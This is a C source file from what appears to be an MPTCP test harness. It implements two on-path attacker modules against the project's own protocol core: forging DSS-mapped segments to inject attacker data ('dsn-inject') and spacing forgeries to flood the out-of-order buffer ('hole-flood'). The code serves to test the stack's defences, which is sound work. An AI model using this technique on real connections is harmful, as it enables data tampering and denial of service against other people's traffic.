/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * attack_dsn.c - threat A2: data injected at the data level.
 *
 * An on-path attacker on one subflow forges, in sequence on that subflow,
 * a data segment whose DSS mapping covers data sequence numbers that the
 * peer carries (or will carry) on another subflow; its payload is the
 * attacker's own pattern. Where the mapping starts is chosen relative to
 * the victim's data-level RCV.NXT, learnt from the DATA_ACKs the victim
 * sends (mptcp_attack_config.dsn_lead): ahead of the real data, the
 * forgery is the first copy and is delivered; behind it, the victim
 * already holds those bytes and keeps them (RFC 8684 section 3.3.1 leaves
 * the choice open; this core, like Linux, keeps the first copy).
 * What protects the victim: mptcp_config.overlap_check counts a second
 * copy that differs; nothing in RFC 8684 authenticates the data, and the
 * DSS checksum, when negotiated, is computable by anyone who sees the
 * subflow (it is not keyed).
 */
#include "attack.h"

static int dsn_init(struct mptcp_attacker *a) {
  if (!a->cfg.on_path || a->cfg.payload_len == 0 || a->cfg.payload_len > 1400)
    return MPTCP_ERR_INVALID_ARGUMENT;
  return 0;
}

/* Learns the victim's data-level RCV.NXT from its DATA_ACKs. */
static void dsn_observe(struct mptcp_attacker *a, const struct atk_flow *f, const mptcp_tcphdr *th,
                        uint64_t now) {
  (void)now;
  int from_victim = f->from_client == (a->cfg.victim == MPTCP_VICTIM_CLIENT);
  if (!from_victim || !(th->opts & MPTCP_OPT_DSS) || !(th->dss.flags & MPTCP_DSS_ACK))
    return;
  uint64_t ack = th->dss.data_ack;
  if (!(th->dss.flags & MPTCP_DSS_ACK8)) /* 32 bits: the attacker sends 32 bits too */
    ack &= 0xffffffffu;
  a->data_ack = ack;
  a->data_ack_known = 1;
}

static int dsn_write(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_tcphdr *h,
                     uint64_t now) {
  (void)now;
  if (!a->data_ack_known || !f->used)
    return 1; /* not yet: no DATA_ACK seen, or the subflow's ISN unknown */
  /* In sequence after the peer's data seen so far, not at the victim's
   * last ACK: with delayed ACKs the victim may hold more than it
   * acknowledged, and a forgery below its RCV.NXT is dropped as a
   * duplicate at the subflow level. What the peer has in flight arrives
   * after (its first bytes then are the duplicates). */
  h->seq = f->nxt;
  h->flags = MPTCP_TH_ACK | MPTCP_TH_PSH;
  h->opts |= MPTCP_OPT_DSS;
  h->dss.flags = MPTCP_DSS_MAP;
  /* 32-bit DSN: the victim expands it against its own RCV.NXT */
  h->dss.dsn = (uint32_t)(a->data_ack + (uint64_t)a->cfg.dsn_lead);
  h->dss.ssn = h->seq - f->isn; /* relative to the ISN: first byte 1 */
  h->dss.dll = a->cfg.payload_len;
  a->payload_len = a->cfg.payload_len;
  return 0;
}

/*
 * A1, "hole-flood": the same forgeries, each mapped `dsn_lead` bytes past
 * the victim's DATA_ACK plus twice the payload per earlier forgery, so
 * that a hole of one payload separates each from the next: the victim
 * holds every one out of order (one more range each) until the real data
 * reaches it, or drops it (past its window: enforce_conn_window; one range
 * too many: max_ofo_ranges; the host cap). In subflow sequence the
 * forgeries follow one another (after the peer's data seen and the last
 * forgery), so the subflow takes each.
 */
static int hole_write(struct mptcp_attacker *a, const struct atk_flow *f, mptcp_tcphdr *h,
                      uint64_t now) {
  int e = dsn_write(a, f, h, now);
  if (e)
    return e;
  if (a->sent && mptcp_after32(a->hole_seq, h->seq))
    h->seq = a->hole_seq; /* after the previous forgery */
  h->dss.ssn = h->seq - f->isn;
  h->dss.dsn = (uint32_t)(a->data_ack + (uint64_t)a->cfg.dsn_lead +
                          2ull * a->sent * a->cfg.payload_len);
  a->hole_seq = h->seq + a->cfg.payload_len;
  return 0;
}

const struct attack_ops attack_dsn_inject = {
    .name = "dsn-inject", .init = dsn_init, .observe = dsn_observe, .write = dsn_write};
const struct attack_ops attack_hole_flood = {
    .name = "hole-flood", .init = dsn_init, .observe = dsn_observe, .write = hole_write};
